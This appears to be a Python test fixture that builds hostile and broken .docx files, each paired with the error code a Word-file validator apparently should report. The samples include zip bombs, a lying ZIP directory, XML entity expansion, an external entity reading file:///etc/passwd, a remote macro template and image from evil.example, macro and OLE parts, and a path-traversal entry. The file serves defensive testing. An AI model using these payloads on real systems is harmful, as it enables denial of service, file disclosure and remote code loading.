"""Word files that somebody might send: made here, so that none lies in the repository."""

from __future__ import annotations

import io
import zipfile

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"


def types(main=MAIN):
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    )


def relation(kind, target, mode="External"):
    return (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"'
        f' TargetMode="{mode}"/></Relationships>'
    )


def document(body, head=""):
    return f"{head}<w:document {W}><w:body>{body}</w:body></w:document>"


def packed(parts=(), *, body="<w:p><w:r><w:t>文</w:t></w:r></w:p>", head="", main=MAIN):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as held:
        held.writestr("[Content_Types].xml", types(main))
        held.writestr("word/document.xml", document(body, head))
        for name, content in parts:
            held.writestr(name, content)
    return out.getvalue()


def encrypted():
    content = bytearray(packed())
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = -1
        while (place := content.find(sign, place + 1)) >= 0:
            content[place + at] |= 1
    return bytes(content)


def lying():
    """A part whose directory says that it is small."""
    content = bytearray(packed([("word/big.xml", b"a" * 5_000_000)]))
    place = content.rfind(b"PK\x01\x02")
    content[place + 24 : place + 28] = (10).to_bytes(4, "little")
    return bytes(content)


MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
ENTITY = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE x SYSTEM "file:///etc/passwd">'
DEEP = "<w:sdt><w:sdtContent>" * 20_000 + "</w:sdtContent></w:sdt>" * 20_000

HOSTILE = {
    # name: (file, code of the problem)
    "empty": (b"", "word_not_docx"),
    "text": (b"hello", "word_not_docx"),
    "old doc": (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "word_not_docx"),
    "cut off": (packed()[:-40], "word_not_docx"),
    "password": (encrypted(), "word_not_docx"),
    "empty zip": (b"PK\x05\x06" + b"\0" * 18, "word_not_docx"),
    "too large": (b"PK\x03\x04" + b"\0" * (20 * 2**20), "word_too_large"),
    "bomb": (packed([("word/media/a.xml", b"\0" * 30_000_000)]), "word_bomb"),
    "many parts": (packed([(f"word/{n}.xml", "") for n in range(2001)]), "word_bomb"),
    "lying size": (lying(), "word_not_docx"),
    "macros": (packed([("word/vbaProject.bin", b"x")]), "word_active"),
    "macro type": (packed(main=MACRO), "word_active"),
    "activex": (packed([("word/activeX/activeX1.xml", "<a/>")]), "word_active"),
    "embedded object": (packed([("word/embeddings/oleObject1.bin", b"x")]), "word_active"),
    "outside template": (
        packed(
            [("word/_rels/settings.xml.rels", relation("attachedTemplate", "http://evil.example/a.dotm"))]
        ),
        "word_active",
    ),
    "outside picture": (
        packed([("word/_rels/document.xml.rels", relation("image", "http://evil.example/a.png"))]),
        "word_active",
    ),
    "link to a file": (
        packed([("word/_rels/document.xml.rels", relation("hyperlink", "file:///c:/a.exe"))]),
        "word_active",
    ),
    "alt chunk": (
        packed([("word/_rels/document.xml.rels", relation("aFChunk", "a.html", "Internal"))]),
        "word_active",
    ),
    "entities": (packed(head=ENTITY), "word_active"),
    "outside entity": (packed(head=OUTSIDE), "word_active"),
    "entities beside": (packed([("word/comments.xml", ENTITY + "<a>&b;</a>")]), "word_active"),
    "broken xml": (packed(body="<w:p>"), "word_damaged"),
    "too deep": (packed(body=DEEP), "word_damaged"),
    "climbing": (packed([("../../evil.xml", "<a/>")]), "word_damaged"),
    "twice": (packed([("word/a.xml", "<a/>"), ("\\word\\a.xml", "<a/>")]), "word_damaged"),
}
